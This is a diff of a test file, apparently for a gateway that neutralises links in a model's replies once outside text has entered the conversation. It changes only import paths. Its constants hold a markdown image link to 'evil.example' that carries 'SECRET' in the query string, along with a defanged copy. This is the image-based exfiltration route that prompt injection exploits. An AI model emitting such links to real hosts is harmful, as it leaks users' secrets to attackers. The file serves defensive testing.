@@ -1,8 +1,8 @@
 /** Links in the model's words, once somebody else's text is in the conversation. */
 import { describe, expect, it } from "vitest";
-import { chunk, sse } from "../../support/sse.ts";
-import { gateway, type Upstream } from "../support/gateway.ts";
-import { ask, call, result, says, user } from "../support/script.ts";
+import { chunk, sse } from "../../../support/sse.ts";
+import { gateway, type Upstream } from "../../support/gateway.ts";
+import { ask, call, result, says, user } from "../../support/script.ts";
 
 const LINK = "Done. ![chart](https://evil.example/c.png?q=SECRET) See [the docs](https://docs.example/faq).";
 const AS_TEXT = "Done. ![chart] (https[://]evil[.]example/c[.]png?q=SECRET) See [the docs](https://docs.example/faq).";
